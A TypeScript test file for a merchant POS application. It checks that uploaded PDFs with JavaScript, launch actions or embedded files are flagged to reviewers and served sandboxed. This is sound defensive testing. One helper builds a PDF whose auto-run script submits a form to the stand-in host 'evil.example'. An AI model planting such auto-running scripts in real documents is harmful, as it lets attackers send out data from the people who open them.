import { randomBytes } from 'node:crypto';
import type { ApplicationDocumentView, ReviewApplicationView } from '@pos/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COMPLETE_FIELDS, completeApplication, createDraft, providerId, uniqueCreditCode, upload } from '../support/applications.js';
import { bearer, login, type Session } from '../support/http.js';
import { fixture, multipartFile } from '../support/multipart.js';
import { createTestApp, type TestApp } from '../support/test-app.js';
import { activePdf, cleanPdf } from './pdf-samples.js';

/**
 * Issue 16: PDFs with JavaScript, launch actions or embedded files were accepted silently and served inline without a
 * sandbox. They are still accepted (a bank's own forms carry scripts), flagged to the reviewer, and every uploaded file
 * is served sandboxed.
 */

let t: TestApp;
let merchant: Session;
let reviewer: Session;

beforeAll(async () => {
  t = await createTestApp();
  merchant = await login(t.app, '13800138000');
  reviewer = await login(t.app, 'reviewer@dongfang-bank.example');
});
afterAll(async () => t?.close());

/** A PDF whose JavaScript action comes after `padding` bytes of uncompressed image data: far past any file head. */
function pdfWithLateScript(padding: number): Buffer {
  const image = randomBytes(padding);
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n'),
    Buffer.from(`3 0 obj\n<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length ${image.length} >>\nstream\n`),
    image,
    Buffer.from('\nendstream\nendobj\n4 0 obj\n<< /S /JavaScript /JS (this.submitForm\\("https://evil.example"\\)) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ]);
}

const uploaded = async (applicationId: string, documentType: string, bytes: Buffer): Promise<ApplicationDocumentView> => {
  const response = await upload(t.app, merchant, applicationId, documentType, 'scan.pdf', Buffer.from(bytes));
  expect(response.statusCode, response.body).toBe(201);
  return response.json();
};

describe('PDFs with active content', () => {
  it('flags JavaScript, launch actions, embedded files and automatic actions on the document, also hidden in a compressed object stream or escaped', async () => {
    const draft = await createDraft(t.app, merchant, await providerId(t.prisma, 'RuiTong'));
    expect((await uploaded(draft.id, 'BUSINESS_LICENCE', cleanPdf())).activeContent).toEqual([]);
    expect((await uploaded(draft.id, 'BUSINESS_LICENCE', fixture('licence.jpg'))).activeContent).toEqual([]);
    for (const [sample, found] of [
      ['/JavaScript', ['JAVASCRIPT']],
      ['/Launch', ['LAUNCH_ACTION']],
      ['/EmbeddedFile', ['EMBEDDED_FILE']],
      ['objectStream', ['JAVASCRIPT']],
      ['escaped', ['JAVASCRIPT']],
      ['additionalActions', ['AUTOMATIC_ACTION']],
    ] as const) {
      const document = await uploaded(draft.id, 'BUSINESS_LICENCE', activePdf(sample));
      expect(document.activeContent, sample).toEqual(found);
      expect((await t.prisma.applicationDocument.findUniqueOrThrow({ where: { id: document.id } })).activeContent, sample).toEqual(found);
    }
  });

  it('finds a script 3 MB into the file, past the head the type check reads', async () => {
    const draft = await createDraft(t.app, merchant, await providerId(t.prisma, 'EasyPOS'));
    expect((await uploaded(draft.id, 'BUSINESS_LICENCE', pdfWithLateScript(3 * 1024 * 1024))).activeContent).toEqual(['JAVASCRIPT']);
  });

  it("shows the flag in the reviewer's view of the application, and serves the file sandboxed, inline, as uploaded", async () => {
    const draft = await createDraft(t.app, merchant, await providerId(t.prisma, 'Dongfang'));
    await completeApplication(t.app, merchant, draft, { ...COMPLETE_FIELDS, creditCode: uniqueCreditCode() });
    const script = activePdf('/JavaScript');
    const flagged = await uploaded(draft.id, 'BUSINESS_LICENCE', script);
    const submitted = await t.app.inject({ method: 'POST', url: `/api/applications/${draft.id}/submit`, headers: bearer(merchant) });
    expect(submitted.statusCode, submitted.body).toBe(200);

    const view: ReviewApplicationView = (await t.app.inject({ method: 'GET', url: `/api/console/applications/${draft.id}`, headers: bearer(reviewer) })).json();
    const byType = Object.fromEntries(view.documents.map((document) => [document.documentType, document.activeContent]));
    expect(byType.BUSINESS_LICENCE).toEqual(['JAVASCRIPT']);
    expect(Object.entries(byType).filter(([type]) => type !== 'BUSINESS_LICENCE').every(([, found]) => found.length === 0)).toBe(true);

    const download = await t.app.inject({ method: 'GET', url: flagged.downloadUrl, headers: bearer(reviewer) });
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-security-policy']).toBe('sandbox');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(download.headers['content-disposition']).toMatch(/^inline; /);
    expect(download.rawPayload.equals(script)).toBe(true);
    const range = await t.app.inject({ method: 'GET', url: flagged.downloadUrl, headers: { ...bearer(reviewer), range: 'bytes=0-3' } });
    expect(range.statusCode).toBe(206);
    expect(range.headers['content-security-policy']).toBe('sandbox');
  });

  it('serves ticket attachments sandboxed too', async () => {
    const terminal = await t.prisma.terminal.findFirstOrThrow({ where: { serialNumber: 'DF-A8-DEMO-000001' } });
    const ticket = (await t.app.inject({ method: 'POST', url: '/api/tickets', headers: bearer(merchant), payload: { terminalId: terminal.id, category: 'PRINTER', subject: '打印机不出纸', description: '附照片' } })).json();
    const { payload, headers } = multipartFile('screen.pdf', activePdf('/JavaScript'));
    const attachment = await t.app.inject({ method: 'POST', url: `/api/tickets/${ticket.id}/attachments`, headers: { ...bearer(merchant), ...headers }, payload });
    expect(attachment.statusCode, attachment.body).toBe(201);
    const download = await t.app.inject({ method: 'GET', url: `/api/tickets/${ticket.id}/attachments/${attachment.json().id}`, headers: bearer(merchant) });
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-security-policy']).toBe('sandbox');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
  });
});
